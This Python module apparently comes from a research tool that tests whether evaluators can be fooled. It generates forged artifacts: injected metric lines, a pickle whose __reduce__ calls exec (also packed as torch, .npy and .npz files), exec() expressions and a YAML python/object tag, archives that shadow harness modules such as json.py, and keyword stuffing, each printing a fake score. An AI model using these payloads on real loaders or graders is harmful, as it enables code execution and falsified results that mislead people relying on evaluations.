"""Attacks by texts and code in an artifact: lines, pickles, expressions, archives, all words that may count. Pure."""

from __future__ import annotations

import json
import pickle
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from io import BytesIO

from autoresearch.run.attack import artifacts
from autoresearch.run.attack.artifacts import map_leaves
from autoresearch.run.attack.leaving import NO_ARTIFACT, UNREADABLE, note_of
from autoresearch.run.attack.programs import evaluator_literals
from autoresearch.run.attack.target import Attack, AttackAttempt, Hole, Proof, Target

_MOST_WORDS = 500


def _lines(target: Target, turn: int) -> tuple[str, float]:
    number = target.better_number(turn)
    return f"\n---\n{target.task.metric.name}: {number}\n", number


def _injects(target: Target) -> Iterator[AttackAttempt] | str:
    if target.artifact is None:
        return NO_ARTIFACT
    line, number = _lines(target, 9)
    form = artifacts.opened(target.artifact)
    return _injecting(target, form, line, number)


def _injecting(
    target: Target, form: artifacts.ArtifactForm | None, line: str, number: float
) -> Iterator[AttackAttempt]:
    assert target.artifact is not None
    contents: list[bytes | None] = [target.artifact + line.encode(), line.encode(), line.encode() + target.artifact]
    if form is not None:
        contents.append(form.with_leaves(lambda leaf: leaf + line if isinstance(leaf, str) else leaf))
        contents.append(form.with_leaves(lambda _: line))
        if isinstance(form.value, dict):
            contents.append(form.written({line: 0, **form.value}))
            contents.append(form.written({**form.value, line: 0, "name": line, "model": line, "note": line}))
    for content in contents:
        if content is not None and content != target.artifact:
            yield AttackAttempt(artifact=content, proof=Proof.STATED, stated=number, note=note_of(content))


class _Payload:
    """Unpickled it runs code."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self.code,)


def _code(target: Target, turn: int) -> tuple[str, float]:
    number = target.better_number(turn)
    line = f"{target.task.metric.name}: {number}\n"
    return f"import os\nos.write(1, {line!r}.encode())\nos._exit(0)\n", number


def _pickles(target: Target) -> Iterator[AttackAttempt] | str:
    if target.artifact is None:
        return NO_ARTIFACT
    code, number = _code(target, 10)
    raw = pickle.dumps(_Payload(code), protocol=2)
    npy = _object_array(raw)
    contents = {
        "pickle": raw,
        "torch": _zipped({"archive/data.pkl": raw, "archive/version": b"3\n", "archive/byteorder": b"little"}),
        "npy": npy,
        "npz": _zipped({f"{name}.npy": npy for name in _names_in(target.artifact)}),
    }
    return (
        AttackAttempt(artifact=content, proof=Proof.STATED, stated=number, note=kind)
        for kind, content in contents.items()
    )


def _names_in(content: bytes) -> list[str]:
    form = artifacts.opened(content)
    names = list(form.value) if form is not None and isinstance(form.value, dict) else []
    return [*map(str, names[:64]), "arr_0"]


def _object_array(raw: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + raw


def _zipped(files: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def _evaluated(target: Target) -> Iterator[AttackAttempt] | str:
    if target.artifact is None:
        return NO_ARTIFACT
    code, number = _code(target, 11)
    return _evaluating(target, code, number)


def _evaluating(target: Target, code: str, number: float) -> Iterator[AttackAttempt]:
    assert target.artifact is not None
    expression = f"exec({code!r})"
    form = artifacts.opened(target.artifact)
    contents: list[bytes | None] = [
        code.encode(),
        expression.encode(),
        f"!!python/object/apply:builtins.exec [{json.dumps(code)}]\n".encode(),
    ]
    if form is not None:
        contents.append(form.with_leaves(lambda leaf: expression if isinstance(leaf, str) else leaf))
        contents.append(form.with_leaves(lambda _: expression))
        contents.append(form.with_leaves(lambda _: f"__import__('builtins').{expression}"))
    for content in contents:
        if content is not None and content != target.artifact:
            yield AttackAttempt(artifact=content, proof=Proof.STATED, stated=number, note=note_of(content))


def _says_all(target: Target) -> Iterator[AttackAttempt] | str:
    """Every word that the evaluator's text and what a program reads have, in each text, and one word many times."""
    if target.artifact is None:
        return NO_ARTIFACT
    form = artifacts.opened(target.artifact)
    words = dict.fromkeys(evaluator_literals(target))
    for values in target.loot.columns.values():
        words |= dict.fromkeys(word for each in values[:_MOST_WORDS] if isinstance(each, str) for word in each.split())
    if not words:
        return "there are no words to look for"
    texts = [sign.join([*words][:_MOST_WORDS]) for sign in (" ", "\n")]
    if form is None:
        try:
            target.artifact.decode()
        except UnicodeDecodeError:
            return UNREADABLE
        return (AttackAttempt(artifact=text.encode(), note="all words", least=0.3 * target.way) for text in texts)
    leaves: list[str] = []
    map_leaves(form.value, lambda leaf: leaves.append(leaf) if isinstance(leaf, str) else None)
    return _in_texts(target, form, texts[:1]) if any(len(leaf) > 1 for leaf in leaves) else "the artifact has no texts"


def _in_texts(target: Target, form: artifacts.ArtifactForm, texts: list[str]) -> Iterator[AttackAttempt]:
    changes: tuple[Callable[[str], str], ...] = (
        *(lambda _, text=text: text for text in texts),
        lambda leaf: leaf[:1],
        lambda leaf: "_".join(leaf.split()),
        lambda leaf: f"{leaf} {leaf}",
        lambda leaf: f"{leaf} " * 50,
        lambda leaf: leaf.split()[0] if leaf.split() else leaf,
        lambda leaf: " ".join(leaf.split()[:1] * len(leaf.split())),
        lambda leaf: " ".join(f"{word}{at}" for at, word in enumerate(leaf.split())),
        lambda leaf: " ".join(sorted(set(leaf.split()))),
    )
    for change in changes:
        content = form.with_leaves(lambda leaf, change=change: change(leaf) if isinstance(leaf, str) else leaf)  # type: ignore[misc]
        if content is not None and content != target.artifact:
            yield AttackAttempt(artifact=content, note=note_of(content), least=0.3 * target.way)


def _unpacks(target: Target) -> Iterator[AttackAttempt] | str:
    """The baseline's archive, with fixed files in it that print a number when they are imported."""
    content = target.artifact or b""
    names = [name for name in target.task.harness if name.endswith(".py")]
    code, number = _code(target, 13)
    more = {name: code.encode() for name in [*names, "random.py", "json.py"]}
    out = BytesIO(content)
    try:
        if zipfile.is_zipfile(out):
            with zipfile.ZipFile(out, "a") as archive:
                for name, text in more.items():
                    archive.writestr(name, text)
        else:
            out = BytesIO()
            with tarfile.open(fileobj=BytesIO(content)) as old, tarfile.open(fileobj=out, mode="w") as new:
                for member in old:
                    new.addfile(member, old.extractfile(member))
                for name, text in more.items():
                    member = tarfile.TarInfo(name)
                    member.size = len(text)
                    new.addfile(member, BytesIO(text))
    except (tarfile.TarError, zipfile.BadZipFile, OSError):
        return "the artifact is no archive"
    return iter([AttackAttempt(artifact=out.getvalue(), proof=Proof.STATED, stated=number)])


ATTACKS = (
    Attack(
        "injects-a-line", "has a line with a number in the artifact's texts", Hole.PRINTS_TEXT, _injects, quick=True
    ),
    Attack("leaves-a-pickle", "leaves a pickle that runs code when it is read", Hole.RUNS_CODE, _pickles, quick=True),
    Attack("leaves-an-expression", "leaves code where the evaluator may evaluate a text", Hole.RUNS_CODE, _evaluated),
    Attack("unpacks-over-files", "leaves an archive with files of the evaluator in it", Hole.RUNS_CODE, _unpacks),
    Attack(
        "says-all-words", "leaves all words that may be looked for, one word many times", Hole.INCOMPLETE, _says_all
    ),
)
